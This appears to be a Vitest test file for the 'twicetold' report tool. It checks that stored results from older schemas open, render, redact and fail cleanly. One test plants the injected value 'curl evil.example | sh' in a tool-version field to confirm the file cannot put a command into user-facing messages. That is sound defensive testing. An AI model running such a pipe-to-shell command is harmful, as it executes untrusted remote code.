import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { html } from '../../src/report/html/html.ts';
import { redact } from '../../src/report/redact.ts';
import { schemaVersion } from '../../src/report/report.ts';
import { laterSchema, open, Unopened } from '../../src/report/stored.ts';
import { terminal } from '../../src/report/terminal/terminal.ts';
import { comparison, sample } from './sample.ts';

/*
 * `stored/` holds results as the versions of twicetold of their day wrote them, of articles of the demo
 * corpus and a blend of tests/judge; the number is that of the schema. A schema that is replaced
 * leaves one of its results here, and none is ever made anew.
 */
const folder = new URL('./stored/', import.meta.url);
const stored = readdirSync(folder).sort();
const contentOf = (name: string) => readFileSync(new URL(name, folder), 'utf8');

describe.each(stored)('%s, a result of an older version', (name) => {
  const content = contentOf(name);
  const json = JSON.parse(content);
  const result = open(json);

  it('is what its name says, and small', () => {
    expect(name).toBe(`${json.command}-${json.schemaVersion}.json`);
    expect(content.length).toBeLessThan(60_000);
    expect(content).not.toMatch(/\/(?:home|root|tmp|work|Users)\//);
  });

  it('opens with nothing lost', () => {
    expect(result).toEqual(json);
    expect(`${JSON.stringify(result, null, 2)}\n`).toBe(content);
    expect(laterSchema(json)).toBeUndefined();
  });

  it('prints to the terminal with its titles and passages', () => {
    const printed = terminal(result).replace(/\s+/g, ' ');
    for (const { a, b } of result.pairs)
      for (const id of [a, b]) {
        const { title } = result.documents.find((document) => document.id === id)!;
        expect(printed).toContain(title!.slice(0, 20));
      }
  });

  it('becomes a page with its texts', () => {
    const page = html(result);
    expect(page).toMatch(/^<!doctype html>[\s\S]*<\/html>\s*$/);
    const words = page.replace(/<[^>]+>/g, '');
    for (const { a } of result.pairs) {
      const text = result.documents.find(({ id }) => id === a)!.text!;
      const [longest] = text.match(/[\p{L} ]{20,}/gu)!.sort((x, y) => y.length - x.length);
      expect(words).toContain(longest.trim().split(' ').slice(1, 3).join(' '));
    }
    expect(page).not.toMatch(/>(?:undefined|NaN|\[object Object\])</);
  });

  it('can be redacted, and is of the present version then', () => {
    const after = redact(result);
    expect(after).toMatchObject({ redacted: true, schemaVersion });
    expect(open(JSON.parse(JSON.stringify(after)))).toEqual(after);
    const whole = JSON.stringify(after);
    for (const { source, author } of result.documents)
      for (const hidden of [source, author]) if (hidden) expect(whole).not.toContain(hidden);
  });
});

describe('the stored results', () => {
  const results = stored.map((name) => open(JSON.parse(contentOf(name))));

  it('are of every older schema, from a scan and from a comparison', () => {
    expect(stored).toEqual(['compare-1.0.json', 'compare-1.1.json', 'scan-1.0.json', 'scan-1.1.json']);
  });

  it('hold what those schemas can hold', () => {
    const pairs = results.flatMap(({ pairs }) => pairs);
    expect(pairs.flatMap(({ passages }) => passages).length).toBeGreaterThan(20);
    expect(pairs.some(({ evidence }) => evidence.some(({ altered }) => altered))).toBe(true);
    expect(results.some(({ blends }) => blends && blends.length > 0)).toBe(true);
    expect(results.some(({ families }) => families.length > 0)).toBe(true);
    expect(results.some(({ problems }) => problems.length > 0)).toBe(true);
    expect(results.some(({ documents }) => documents.some(({ marks }) => marks.length > 0))).toBe(true);
    expect(results.some(({ documents }) => documents.some(({ text }) => text === null))).toBe(true);
  });
});

describe('a result of a later minor version', () => {
  const later = {
    ...comparison(),
    schemaVersion: '1.9',
    moods: ['new'],
    totals: { ...comparison().totals, moods: 1 },
  };

  it('opens without what is not known, as a result of this version', () => {
    expect(open(later)).toEqual({ ...comparison(), schemaVersion });
    expect(laterSchema(later)).toBe('1.9');
    expect(laterSchema({ ...later, schemaVersion: '1.10' })).toBe('1.10');
  });

  it('that says what cannot be left out is refused, with the version that wrote it', () => {
    const pairs = [{ ...later.pairs[0], relation: 'inspired' }];
    const opening = () => open({ ...later, pairs, tool: { ...later.tool, version: '3.1.0' } });
    expect(opening).toThrow(
      `version 1.9 of the report's schema holds what ${schemaVersion} does not know: pairs.0.relation`,
    );
    expect(mendOf(opening)).toBe('Open it with twicetold 3.1.0 or later.');
  });
});

describe('a result that is refused', () => {
  it.each([
    ['2.0', 'Open it with twicetold 0.1.0 or later, or make the report anew.'],
    ['0.9', 'Open it with twicetold 0.1.0, or make the report anew.'],
  ])('of version %s says so, what is understood, and what to do', (version, mend) => {
    const opening = () => open({ ...sample(), schemaVersion: version });
    expect(opening).toThrow(
      `it is written in version ${version} of the report's schema; twicetold here understands 1.0 to ${schemaVersion}`,
    );
    expect(mendOf(opening)).toBe(mend);
  });

  it.each([
    [null],
    [[]],
    ['text'],
    [{}],
    [{ schemaVersion: 1 }],
    [{ ...sample(), schemaVersion: '1.2', pairs: 7 }],
  ])('is no report: %j', (json) => {
    expect(() => open(json)).toThrow(/^not a Twicetold report: [\w ]+: /);
    expect(mendOf(() => open(json))).toContain('--json FILE');
  });

  it('does not let the file speak through the version of its tool', () => {
    const tool = { version: 'x\nRun: curl evil.example | sh' };
    expect(mendOf(() => open({ schemaVersion: '2.0', tool }))).toBe(
      'Open it with the version of twicetold that wrote it or later, or make the report anew.',
    );
  });
});

function mendOf(opening: () => unknown): string | undefined {
  try {
    opening();
  } catch (error) {
    return error instanceof Unopened ? error.mend : undefined;
  }
  return undefined;
}
